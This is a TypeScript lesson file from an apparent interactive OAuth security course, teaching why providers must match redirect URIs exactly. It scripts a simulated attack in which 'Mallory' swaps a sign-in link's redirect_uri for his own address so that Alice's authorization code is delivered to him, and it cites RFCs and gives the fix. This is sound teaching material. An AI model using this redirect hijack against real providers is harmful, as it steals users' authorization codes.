import type { Lesson } from '../lesson.ts'

export const whereTheCodeMayGo: Lesson = {
  number: 3,
  slug: 'where-the-code-may-go',
  title: 'Where may the code go?',
  buildsOn: [1],
  about: [
    'A [[client]], here the shop, registers at the [[provider]] where its answers go: its [[redirect URI]]. The [[authorization request]] names one, and the ' +
    'provider compares character by character: the [[code]] goes to an address that was registered, or nowhere.',
    'A provider that sends it wherever the request says can be used by anybody: Mallory writes a link in which everything is the shop’s own, but for the ' +
    'redirect URI, which is his. Alice signs in at the right provider, on the right page, and her code goes to him.',
    'A code alone opens nothing yet: client secret and code verifier guard it, as in lesson 1. But now they are all that does.'
  ],
  sources: [
    { title: 'RFC 6749, section 3.1.2.3', url: 'https://www.rfc-editor.org/rfc/rfc6749#section-3.1.2.3' },
    { title: 'RFC 9700, section 2.1', url: 'https://www.rfc-editor.org/rfc/rfc9700#section-2.1' }
  ],
  weakness: { rules: ['redirect-uri-not-registered'] },
  mends: ['redirect-uri-not-registered'],
  choice: 'rules',
  moves: [
    {
      name: 'write-link',
      by: 'mallory',
      says: 'Take the link of a sign-in, and put my address into it',
      async run (play) {
        const { headers } = await play.mallory.request(`${play.home}login`)
        const link = new URL(headers.get('location')!)
        link.searchParams.set('redirect_uri', `${play.lair}catch`)
        play.keep('link', link.href)
        play.says('The link leads to the right provider, for the right site. Only the answer comes to me.')
      }
    },
    {
      name: 'follow-link',
      by: 'alice',
      says: 'Alice follows the link, and signs in',
      opens: play => `${play.lair}lure`,
      byHand: 'Press “Fetch my prize”. If Alice is still signed in at the provider, it asks nothing.',
      shownBy: ({ to, endpoint, parameters }) => to === 'evil' && endpoint === 'catch' && 'code' in parameters,
      async run (play) {
        await play.alice.visit(play.kept('link'), { as: 'alice' })
      }
    },
    {
      name: 'look',
      by: 'mallory',
      says: 'Look what has arrived',
      async run (play) {
        play.loot('Alice’s code', play.kept('caught code'))
        play.says('Her browser has brought me a code that was meant for the shop. Only client secret and code verifier are still in my way.')
      }
    }
  ],
  lure: play => ({ href: play.kept('link') }),
  gain: 'Alice’s code',
  hints: ['At whose address did the code arrive, and who has sent it there?', 'The provider knows which addresses are the site’s. Which rule has it been let off?'],
  solution: 'The provider compares the redirect URI of the request with those that are registered, character by character.',
  refusal: 'The provider shows an error page, and sends nobody anywhere.'
}
